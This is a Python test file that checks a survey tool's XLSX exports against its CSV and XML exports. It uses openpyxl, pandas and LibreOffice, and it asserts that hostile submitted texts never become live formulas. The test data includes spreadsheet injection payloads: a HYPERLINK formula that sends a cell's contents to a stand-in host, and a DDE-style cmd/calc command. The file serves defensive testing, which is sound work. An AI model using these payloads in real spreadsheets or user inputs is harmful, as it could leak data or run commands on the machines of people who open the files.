#!/usr/bin/env python3
"""The XLSX exports read back by the field's own readers (issue 17).

    python3 Tests/Readers/xlsx_test.py --consult .build/debug/consult [unittest options]

Starts the real `consult serve` on a seeded database (synthetic submissions, then hostile
texts sent through the API), downloads the analysis and the responses as XLSX, CSV and XML,
and reads the workbooks with openpyxl, with pandas, and with LibreOffice (headless, converting
every sheet to CSV) as a second, independent reader. Every value must equal the CSV export's,
with the type the XML export gives its column, except for the rules Exports/README.md
documents: text cells hold the text without the CSV's apostrophe; percent columns hold the
CSV's value divided by 100; a text beyond 32,767 characters is cut with a note.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as ElementTree
import zipfile
from pathlib import Path

import openpyxl
import pandas

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
REPOSITORY = Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(REPOSITORY / "Scripts" / "fault"))

from consult_server import ConsultServer  # noqa: E402

SURVEY = "ai-risk-assessment"  # open until 2099
EXAMPLE = REPOSITORY / "Scripts" / "examples" / "ai-risk-submission.json"
CONSULT_BINARY = ""
CELL_LIMIT = 32_767
CUT_MARKER = "…[cut: an Excel cell holds at most 32,767 characters; the CSV and XML exports have the full text]"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Free texts no spreadsheet may run or mangle: sent as `use_case_description` (its maximum
# raised to 100,000 characters in the test's copy of the survey) and as the "other" sector text.
HOSTILE_TEXTS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(A1:A9)",
    "-3",
    "@cmd|' /C calc'!A0",
    "control: soh\u0001 us\u001f del\u007f vt\u000b ff\u000c end",
    "nul\u0000in the middle",
    "lone cr\rand crlf\r\nand lf\nend",
    "non-characters \ufffe and \uffff end",
    "an escape lookalike _x0041_ and _x005F_ and _X00e9_ end",
    "right to left: \u202eمرحبا بالعالم\u202c שלום עולם \u200f(ok)",
    "emoji 👩🏽‍💻 and combining e\u0301 end",
    "x" * 15_000 + " thirty thousand characters " + "y" * 14_972,
    "long " + "z" * 40_000 + " end",
    "astral " + "😀" * 20_000,
]


def xlsx_unescape(text):
    """SpreadsheetML's `_xHHHH_` escapes decoded, as Excel and LibreOffice do; openpyxl does not."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match.group(1), 16)), text)


def expected_text(csv_value):
    """A CSV text cell as the XLSX must hold it: without the apostrophe CSV puts before a formula."""
    if csv_value.startswith("'") and csv_value[1:2] != "" and csv_value[1] in FORMULA_STARTS:
        return csv_value[1:]
    return csv_value


def as_libreoffice_reads(text):
    """LibreOffice keeps line breaks as LF: a CR, or CR LF, in a cell reads back as LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def utf16_length(text):
    return len(text.encode("utf-16-le")) // 2


def cut_text(text):
    """The documented cut: the longest beginning (whole code points) that fits with the note."""
    if utf16_length(text) <= CELL_LIMIT:
        return text
    room = CELL_LIMIT - len(CUT_MARKER)
    kept, length = [], 0
    for character in text:
        width = 2 if ord(character) > 0xFFFF else 1
        if length + width > room:
            break
        kept.append(character)
        length += width
    return "".join(kept) + CUT_MARKER


def consult(*arguments):
    return subprocess.run([CONSULT_BINARY, *arguments], check=True, capture_output=True, text=True).stdout


class XLSXReaders(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = Path(tempfile.mkdtemp(prefix="consult-xlsx-"))
        surveys = cls.folder / "surveys"
        surveys.mkdir()
        definition = (REPOSITORY / "Surveys" / f"{SURVEY}.yaml").read_text()
        marker = "multiline: true\n        max_length: 5000"
        assert definition.count(marker) == 1, "use_case_description's limit moved"
        (surveys / f"{SURVEY}.yaml").write_text(definition.replace(marker, "multiline: true\n        max_length: 100000"))
        cls.db = str(cls.folder / "consult.sqlite")
        consult("generate", SURVEY, "--count", "300", "--seed", "7", "--db", cls.db, "--surveys", str(surveys))
        cls.token = consult("token", "create", "--role", "analyst", "--name", "Reader", "--db", cls.db).strip()
        cls.log = open(cls.folder / "server.log", "wb")
        cls.server = ConsultServer(CONSULT_BINARY, cls.db, cls.log, extra_args=("--surveys", str(surveys)))
        try:
            cls.sent = {}
            base = json.loads(EXAMPLE.read_text())["answers"]
            for index, text in enumerate(HOSTILE_TEXTS):
                answers = dict(base, system_name=f"hostile-{index}", use_case_description=text,
                               agency_type={"choice": "other", "other": text[:200]}, publication="public_anonymous")
                status, _, body = cls.server.request("POST", f"/api/v1/surveys/{SURVEY}/submissions", {"answers": answers})
                assert status == 201, (index, status, body[:300])
                cls.sent[f"hostile-{index}"] = text
            cls.files = {}
            for name in ["analysis.xlsx", "responses.xlsx", "analysis.zip", "responses.csv", "analysis.xml"]:
                status, media_type, body = cls.server.request("GET", f"/api/v1/surveys/{SURVEY}/{name}", token=cls.token)
                assert status == 200, (name, status, body[:300])
                cls.files[name] = cls.folder / name
                cls.files[name].write_bytes(body)
                if name.endswith(".xlsx"):
                    assert media_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", media_type
            cls.stats = json.loads(cls.server.request("GET", f"/api/v1/surveys/{SURVEY}/stats", token=cls.token)[2])
        except BaseException:
            cls.server.stop()
            raise
        cls.server.stop()
        cls.workbooks = {name: openpyxl.load_workbook(cls.files[name]) for name in ["analysis.xlsx", "responses.xlsx"]}
        with zipfile.ZipFile(cls.files["analysis.zip"]) as archive:
            cls.tables = {
                Path(name).stem: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline="")))
                for name in archive.namelist()
            }
        cls.responses = list(csv.reader(io.StringIO(cls.files["responses.csv"].read_bytes().decode("utf-8"), newline="")))
        root = ElementTree.parse(cls.files["analysis.xml"]).getroot()
        namespace = "{urn:consult:analysis:1}"
        cls.column_types = {
            table.get("name"): [column.get("type") for column in table.findall(f"{namespace}column")]
            for table in root.findall(f"{namespace}table")
        }
        cls.libreoffice = cls.convert_with_libreoffice()

    @classmethod
    def tearDownClass(cls):
        cls.log.close()
        shutil.rmtree(cls.folder, ignore_errors=True)

    @classmethod
    def convert_with_libreoffice(cls):
        """Every sheet of both workbooks as CSV, written by LibreOffice: UTF-8, raw values (not as
        shown), one file per sheet (`<workbook>-<sheet>.csv`)."""
        out = cls.folder / "libreoffice"
        profile = cls.folder / "libreoffice-profile"
        filter_options = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", filter_options,
             "--outdir", str(out), str(cls.files["analysis.xlsx"]), str(cls.files["responses.xlsx"])],
            check=True, capture_output=True, timeout=300)
        sheets = {}
        for path in out.glob("*.csv"):
            with open(path, newline="", encoding="utf-8") as file:
                sheets[path.stem] = list(csv.reader(file))
        return sheets

    # Values and types, by openpyxl and pandas

    def assert_cell(self, value, csv_value, column_type, percent, where):
        if csv_value == "":
            self.assertIsNone(value, where)
        elif column_type == "text" and not isinstance(value, str):
            # A number in a text column (a scale point's code in the codebook) is a number in the CSV too: never neutralised.
            self.assertIsInstance(value, (int, float), where)
            self.assertEqual(value, float(csv_value), where)
        elif column_type == "text":
            self.assertEqual(xlsx_unescape(value), cut_text(expected_text(csv_value)), where)
        else:
            self.assertIsInstance(value, (int, float), where)
            self.assertNotIsInstance(value, bool, where)
            if column_type == "integer":
                self.assertEqual(value, int(csv_value), where)
            elif percent:
                self.assertAlmostEqual(value * 100, float(csv_value), places=9, msg=where)
            else:
                self.assertEqual(value, float(csv_value), where)

    def test_analysis_sheets_hold_the_csv_tables_values_and_types(self):
        workbook = self.workbooks["analysis.xlsx"]
        self.assertEqual(workbook.sheetnames, ["cover", *self.column_types.keys()])
        self.assertEqual(set(self.column_types), set(self.tables))
        for name, rows in self.tables.items():
            sheet = workbook[name]
            values = list(sheet.iter_rows(values_only=True))
            self.assertEqual(list(values[0]), rows[0], f"{name}: header")
            self.assertEqual(len(values), len(rows), f"{name}: rows")
            for index, (row, csv_row) in enumerate(zip(values[1:], rows[1:]), start=2):
                row = list(row) + [None] * (len(csv_row) - len(row))
                for column, (value, csv_value) in enumerate(zip(row, csv_row)):
                    column_type = self.column_types[name][column]
                    percent = rows[0][column].startswith("percent")
                    self.assert_cell(value, csv_value, column_type, percent, f"{name} row {index} {rows[0][column]}")
                    if percent and value is not None:
                        self.assertEqual(sheet.cell(index, column + 1).number_format, "0.00%")

    def test_every_sheet_has_a_bold_frozen_filtered_header_and_fitted_columns(self):
        for workbook in self.workbooks.values():
            for sheet in workbook.worksheets:
                self.assertEqual(sheet.freeze_panes, "A2", sheet.title)
                self.assertTrue(all(cell.font.b for cell in sheet[1]), sheet.title)
                if sheet.title != "cover":
                    self.assertEqual(sheet.auto_filter.ref, f"A1:{sheet.cell(sheet.max_row, sheet.max_column).coordinate}")
                for column in range(1, sheet.max_column + 1):
                    letter = openpyxl.utils.get_column_letter(column)
                    width = sheet.column_dimensions[letter].width
                    self.assertTrue(8 <= width <= 101, f"{sheet.title} {letter}: {width}")
        text = self.workbooks["responses.xlsx"]["responses"]
        header = [cell.value for cell in text[1]]
        # A long text column is wider than a one-digit version number.
        self.assertGreater(
            text.column_dimensions[openpyxl.utils.get_column_letter(header.index("use_case_description") + 1)].width,
            text.column_dimensions[openpyxl.utils.get_column_letter(header.index("version") + 1)].width)

    def test_the_responses_sheet_holds_the_csv_rows(self):
        sheet = self.workbooks["responses.xlsx"]["responses"]
        values = list(sheet.iter_rows(values_only=True))
        header = self.responses[0]
        self.assertEqual(list(values[0]), header)
        self.assertEqual(len(values), len(self.responses))
        self.assertEqual(len(values) - 1, self.stats["submissions"])
        numeric = {"version", "people_affected"} | {name for name in header if name.endswith(("_likelihood", "_impact"))}
        for index, (row, csv_row) in enumerate(zip(values[1:], self.responses[1:]), start=2):
            row = list(row) + [None] * (len(csv_row) - len(row))
            for name, value, csv_value in zip(header, row, csv_row):
                if csv_value != "" and not isinstance(value, str):
                    column_type = "decimal"
                else:
                    column_type = "text"
                if name in numeric:
                    self.assertNotIsInstance(value, str, f"row {index} {name}")
                self.assert_cell(value, csv_value, column_type, False, f"row {index} {name}")

    def test_pandas_reads_the_same_values_with_numeric_columns(self):
        typed = pandas.read_excel(self.files["responses.xlsx"], sheet_name="responses")
        for name in ["version", "people_affected", "privacy_likelihood"]:
            self.assertTrue(pandas.api.types.is_numeric_dtype(typed[name]), f"{name}: {typed[name].dtype}")
        self.assertTrue(pandas.api.types.is_string_dtype(typed["system_name"]), typed["system_name"].dtype)
        # Without pandas' own NA guesses ("NA", "null" … would become NaN), every text comes as typed.
        frame = pandas.read_excel(self.files["responses.xlsx"], sheet_name="responses", keep_default_na=False, na_values=[])
        self.assertEqual(list(frame.columns), self.responses[0])
        self.assertEqual(len(frame), len(self.responses) - 1)
        for name, column in frame.items():
            position = self.responses[0].index(name)
            for index, value in enumerate(column):
                csv_value = self.responses[index + 1][position]
                where = f"pandas row {index + 2} {name}"
                if csv_value == "":
                    self.assertTrue(value == "" or pandas.isna(value), where)
                elif isinstance(value, str):
                    self.assertEqual(xlsx_unescape(value), cut_text(expected_text(csv_value)), where)
                else:
                    self.assertEqual(float(value), float(csv_value), where)
        tables = pandas.read_excel(self.files["analysis.xlsx"], sheet_name=None, keep_default_na=False, na_values=[])
        self.assertEqual(list(tables), ["cover", *self.column_types])
        choices = tables["choices"]
        self.assertTrue(pandas.api.types.is_integer_dtype(choices["respondents"]))
        self.assertEqual(list(choices["label"]), [row[2] for row in self.tables["choices"][1:]])

    # The hostile texts

    def test_hostile_texts_come_through_unchanged_but_for_the_documented_rules(self):
        header = self.responses[0]
        name, text = header.index("system_name"), header.index("use_case_description")
        other = header.index("agency_type.other_text")
        by_tag = {row[name]: row for row in self.workbooks["responses.xlsx"]["responses"].iter_rows(values_only=True)}
        by_tag_lo = {row[name]: row for row in self.libreoffice["responses-responses"]}
        by_tag_csv = {row[name]: row for row in self.responses}
        cut = 0
        for tag, sent in self.sent.items():
            expected = cut_text(sent)
            cut += expected != sent
            self.assertEqual(xlsx_unescape(by_tag[tag][text]), expected, f"{tag} (openpyxl)")
            self.assertEqual(xlsx_unescape(by_tag[tag][other]), sent[:200], f"{tag} other (openpyxl)")
            self.assertEqual(by_tag_lo[tag][text], as_libreoffice_reads(expected), f"{tag} (LibreOffice)")
            self.assertEqual(by_tag_csv[tag][text].lstrip("'") if sent[0] in FORMULA_STARTS else by_tag_csv[tag][text], sent)
        self.assertEqual(cut, 2, "the 40,000-character and the 20,000-emoji texts are cut; the 30,000 one is not")
        self.assertEqual(len(sent := self.sent["hostile-12"]), 30_000)
        self.assertEqual(by_tag["hostile-12"][text], sent)
        cover = dict(self.workbooks["responses.xlsx"]["cover"].iter_rows(values_only=True))
        self.assertEqual(cover["cells cut at 32,767 characters"], 2)

    def test_text_cells_are_strings_never_formulas(self):
        with zipfile.ZipFile(self.files["responses.xlsx"]) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = archive.read(name).decode("utf-8")
                    self.assertNotIn("<f>", xml, name)
                    self.assertNotIn("<f ", xml, name)
        sheet = self.workbooks["responses.xlsx"]["responses"]
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                self.assertNotEqual(cell.data_type, "f", cell.coordinate)

    # LibreOffice, the second reader

    def test_libreoffice_reads_every_sheet_as_the_csv_export(self):
        for name, rows in list(self.tables.items()) + [("responses", self.responses)]:
            workbook = "responses" if name == "responses" else "analysis"
            sheet = self.libreoffice[f"{workbook}-{name}"]
            self.assertEqual(sheet[0], rows[0], name)
            self.assertEqual(len(sheet), len(rows), name)
            for index, (row, csv_row) in enumerate(zip(sheet[1:], rows[1:]), start=2):
                row = row + [""] * (len(csv_row) - len(row))
                for column, (value, csv_value) in enumerate(zip(row, csv_row)):
                    where = f"LibreOffice {name} row {index} {rows[0][column]}"
                    types = self.column_types.get(name)
                    numeric = types[column] != "text" if types else self.is_number_cell(index, column)
                    if csv_value == "":
                        self.assertEqual(value, "", where)
                    elif numeric:
                        # LibreOffice writes a percent cell's value as a percentage: 0.273016 as 27.3016%.
                        if rows[0][column].startswith("percent"):
                            self.assertTrue(value.endswith("%"), where)
                            value = value[:-1]
                        self.assertAlmostEqual(float(value), float(csv_value), places=9, msg=where)
                    else:
                        self.assertEqual(value, as_libreoffice_reads(cut_text(expected_text(csv_value))), where)

    def is_number_cell(self, row, column):
        value = self.workbooks["responses.xlsx"]["responses"].cell(row, column + 1).value
        return value is not None and not isinstance(value, str)

    # The cover, and the command line

    def test_the_cover_names_the_survey_deadline_time_and_privacy_rules(self):
        for name in ["analysis.xlsx", "responses.xlsx"]:
            cover = dict(self.workbooks[name]["cover"].iter_rows(values_only=True))
            self.assertEqual(cover["survey"], SURVEY)
            self.assertEqual(cover["submissions"], self.stats["submissions"])
            self.assertEqual(cover["deadline (UTC)"], self.stats["closes_at"])
            self.assertEqual(cover["deadline (Europe/Paris)"], "2099-12-31T23:59:59.000+01:00")
            self.assertRegex(cover["generated at (UTC)"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
            self.assertIn("texts withheld", cover["privacy: confidential"])
            self.assertIn("\"other\" sector text withheld", cover["privacy: confidential"])
            self.assertIn("\"other\" sector text shown", cover["privacy: public_anonymous"])
        cover = dict(self.workbooks["analysis.xlsx"]["cover"].iter_rows(values_only=True))
        self.assertEqual(cover["sheet codebook"], "Codebook: every question, option, item and point")
        # The raw workbook carries the codebook that labels its codes.
        self.assertEqual(self.workbooks["responses.xlsx"].sheetnames, ["cover", "responses", "codebook"])
        self.assertEqual(list(self.workbooks["responses.xlsx"]["codebook"].iter_rows(values_only=True)),
                         list(self.workbooks["analysis.xlsx"]["codebook"].iter_rows(values_only=True)))

    def test_the_command_line_writes_the_same_workbook(self):
        out = self.folder / "cli"
        printed = consult("export", SURVEY, "--what", "raw", "--format", "xlsx", "--out", str(out), "--db", self.db,
                          "--surveys", str(self.folder / "surveys"))
        self.assertEqual(printed.strip(), str(out / "responses.xlsx"))
        self.assertEqual(sorted(os.listdir(out)), ["responses.xlsx"], "no temporary file left")
        mine = list(openpyxl.load_workbook(out / "responses.xlsx")["responses"].iter_rows(values_only=True))
        served = list(self.workbooks["responses.xlsx"]["responses"].iter_rows(values_only=True))
        self.assertEqual(mine, served)


def main():
    global CONSULT_BINARY
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--consult", required=True, help="the consult binary")
    arguments, rest = parser.parse_known_args()
    CONSULT_BINARY = os.path.abspath(arguments.consult)
    unittest.main(argv=[sys.argv[0], *rest])


if __name__ == "__main__":
    main()
